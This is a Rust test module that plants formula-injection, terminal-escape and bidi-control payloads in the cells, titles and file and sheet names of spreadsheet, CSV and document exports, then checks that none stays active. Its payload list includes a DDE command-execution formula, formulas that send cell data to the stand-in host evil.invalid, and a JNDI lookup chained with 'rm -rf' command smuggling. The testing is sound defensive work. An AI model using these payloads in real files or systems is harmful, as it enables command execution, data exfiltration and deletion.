//! Texts that a spreadsheet, a document or a terminal could obey, planted in every column, in titles and in the names of
//! files and sheets: nothing is active in what is written or said.

use std::collections::BTreeMap;

use super::planted::{TITLES, everything, office, rows};
use super::workbook::between;

/// Formulas in every disguise, commands, links, characters that are obeyed.
const PAYLOADS: [&str; 20] = [
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
    "  =1+1",
    "\u{ff1d}1+1",
    "\u{ff0b}1+1",
    "\u{ff0d}1+1",
    "\u{ff20}SUM(A1)",
    "=cmd|' /C calc'!A0",
    "=HYPERLINK(\"http://evil.invalid/?\"&A1,\"Xem\")",
    "=WEBSERVICE(\"http://evil.invalid\")",
    "http://evil.invalid/a",
    "\u{1b}[2J\u{1b}]0;tiêu đề\u{7}",
    "\u{202e}gnut\u{2066}x\u{2069}\u{200e}\u{200f}\u{61c}",
    "</t></si><f>1+1</f>&#10;]]>",
    "_x003D_1+1_x000D_",
    "${jndi:ldap://evil.invalid}`id`; rm -rf $(x) %COMSPEC%",
];

/// The functions that the formulas of a report use, and no others.
const FUNCTIONS: [&str; 5] = ["IF", "ISTEXT", "OR", "ROUND", "SUM"];

/// What is active in everything about an office.
fn active(told: &BTreeMap<String, String>) -> Vec<String> {
    let mut found = Vec::new();
    for (place, text) in told {
        let mut say = |what: String| found.push(format!("{place}: {what}"));
        match place.as_str() {
            place if place.contains(".xlsx: ") => active_in_workbook(place, text).into_iter().for_each(&mut say),
            place if place.contains(".docx: ") => active_in_document(place, text).into_iter().for_each(&mut say),
            place if place.ends_with(".csv") => active_in_csv(text).into_iter().for_each(&mut say),
            place if place.ends_with(".toml") => {
                drop(text.parse::<toml::Table>().map_err(|cause| say(cause.to_string())))
            }
            place if place.ends_with(".json") => {
                drop(serde_json::from_str::<serde_json::Value>(text).map_err(|cause| say(cause.to_string())));
            }
            place if place.ends_with(".parquet") || place.starts_with("inspect json") => {}
            _ => obeyed(text, "\n").into_iter().for_each(&mut say),
        }
    }
    found
}

/// Characters that a terminal obeys or that turn the direction of what follows.
fn obeyed(text: &str, but: &str) -> Vec<String> {
    let is_turned = |c: char| matches!(c, '\u{61c}' | '\u{200e}' | '\u{200f}' | '\u{202a}'..='\u{202e}' | '\u{2066}'..='\u{2069}' | '\u{2028}' | '\u{2029}');
    let bad = |c: &char| !but.contains(*c) && (c.is_control() || is_turned(*c));
    text.chars().filter(bad).map(|c| format!("{c:?}")).collect()
}

fn active_in_workbook(place: &str, text: &str) -> Vec<String> {
    let mut found = obeyed(text, "\n\r\t");
    for formula in between(text, "<f>", "</f>").into_iter().chain(between(text, "<f ", "</f>")) {
        let calls = called(formula);
        if calls.iter().any(|name| !FUNCTIONS.contains(name)) || formula.contains(['|', '[']) || formula.contains("://")
        {
            found.push(format!("formula {formula}"));
        }
    }
    for mark in ["TargetMode=\"External\"", "<hyperlink", "ddeLink", "oleObject", "vbaProject", "externalLink"] {
        if text.contains(mark) {
            found.push(mark.to_owned());
        }
    }
    // A cell with a text must say that it is one.
    if place.contains("worksheets/sheet") {
        for cell in between(text, "<c ", "</c>") {
            let value = between(cell, "<v>", "</v>").first().copied().unwrap_or_default();
            let is_text = value.parse::<f64>().is_err();
            if is_text && !cell.contains("t=\"str\"") && !cell.contains("t=\"s\"") && !value.is_empty() {
                found.push(format!("cell {cell}"));
            }
        }
    }
    found
}

/// The names that stand before a bracket.
fn called(formula: &str) -> Vec<&str> {
    let before = formula.split('(').collect::<Vec<_>>();
    let names = before.iter().take(before.len().saturating_sub(1));
    let name = |text: &&str| {
        let start = text.rfind(|c: char| !c.is_ascii_alphanumeric() && c != '.' && c != '_').map_or(0, |at| at + 1);
        text[start..].len()
    };
    names.map(|text| &text[text.len() - name(text)..]).filter(|name| !name.is_empty()).collect()
}

fn active_in_document(_place: &str, text: &str) -> Vec<String> {
    let mut found = obeyed(text, "\n\r\t");
    for mark in ["TargetMode=\"External\"", "<w:hyperlink", "w:fldSimple", "altChunk", "oleObject", "attachedTemplate"]
    {
        if text.contains(mark) {
            found.push(mark.to_owned());
        }
    }
    let fields = between(text, "<w:instrText", "</w:instrText>").into_iter().filter_map(|field| field.split_once('>'));
    found.extend(
        fields.filter(|(_, field)| !["PAGE", "NUMPAGES"].contains(&field.trim())).map(|(_, field)| field.to_owned()),
    );
    found
}

fn active_in_csv(text: &str) -> Vec<String> {
    let mut reader =
        csv::ReaderBuilder::new().has_headers(false).from_reader(text.trim_start_matches('\u{feff}').as_bytes());
    let mut found = obeyed(text, "\n\r\t\u{feff}");
    for record in reader.records() {
        let record = record.unwrap();
        let begins = |c: char| "=+-@\t\r\u{ff1d}\u{ff0b}\u{ff0d}\u{ff20}".contains(c);
        found
            .extend(record.iter().filter(|field| field.trim_start_matches(' ').starts_with(begins)).map(str::to_owned));
    }
    found
}

#[test]
fn no_text_is_active_whatever_column_it_stands_in() {
    let mut found = Vec::new();
    for (column, title) in TITLES.iter().enumerate() {
        for payloads in PAYLOADS.chunks(10) {
            let told = everything(&office(&TITLES, &rows(column, payloads)));
            found.extend(active(&told).into_iter().map(|what| format!("{title}: {what}")));
        }
    }
    let (payloads, columns) = (PAYLOADS.len(), TITLES.len());
    println!("planted: {payloads} active texts in each of {columns} columns, {} found active", found.len());
    assert!(found.is_empty(), "{}", found.join("\n"));
}

#[test]
fn no_title_and_no_name_of_a_file_or_sheet_is_active() {
    let mut found = Vec::new();
    for payload in PAYLOADS {
        let mut titles = TITLES;
        titles[22] = payload;
        let table = rows(22, &[payload]);
        let mut csv = csv::Writer::from_writer(Vec::new());
        csv.write_record(titles).unwrap();
        table.iter().for_each(|row| csv.write_record(row).unwrap());
        let file_name: String = payload.chars().filter(|c| *c != '/').collect();
        let sheet_name: String = payload.chars().filter(|c| !"[]:*?/\\'".contains(*c)).take(31).collect();
        let mut book = rust_xlsxwriter::Workbook::new();
        let sheet = book.add_worksheet();
        sheet.set_name(&sheet_name).unwrap();
        for (number, row) in std::iter::once(titles.map(str::to_owned).to_vec()).chain(table).enumerate() {
            for (place, text) in row.iter().enumerate() {
                let text = if number > 0 && place == 1 { text.replacen("H12.01", "H12.02", 1) } else { text.clone() };
                sheet.write_string(number as u32, place as u16, text).unwrap();
            }
        }
        let office = super::support::Office::new()
            .file(&format!("{file_name}.csv"), csv.into_inner().unwrap())
            .file(&format!("{file_name}.xlsx"), book.save_to_buffer().unwrap());
        let told = everything(&office);
        found.extend(active(&told).into_iter().map(|what| format!("{payload:?}: {what}")));
    }
    assert!(found.is_empty(), "{}", found.join("\n"));
}

#[test]
fn what_is_active_would_be_found() {
    let told = |place: &str, text: &str| active(&BTreeMap::from([(place.to_owned(), text.to_owned())])).len();
    assert_eq!(told("a.xlsx: xl/worksheets/sheet1.xml", "<c r=\"A1\"><f>HYPERLINK(\"a\")</f><v>0</v></c>"), 1);
    assert_eq!(told("a.xlsx: xl/worksheets/sheet1.xml", "<c r=\"A1\"><f>cmd|'/C calc'!A0</f><v>0</v></c>"), 1);
    assert_eq!(told("a.xlsx: xl/worksheets/sheet1.xml", "<c r=\"A1\"><f>SUM(B1:B2)</f><v>3</v></c>"), 0);
    assert_eq!(told("a.xlsx: xl/worksheets/_rels/sheet1.xml.rels", "<Relationship TargetMode=\"External\"/>"), 1);
    assert_eq!(told("a.docx: word/document.xml", "<w:instrText>DDEAUTO c</w:instrText>"), 1);
    assert_eq!(told("a.csv", "a,b\n=1,x\n"), 1);
    assert_eq!(told("list: said", "a\u{1b}[2Jb"), 1);
    assert_eq!(told("m.toml", "a = \"b"), 1);
    assert_eq!(told("a.json", "{\"a\": }"), 1);
}
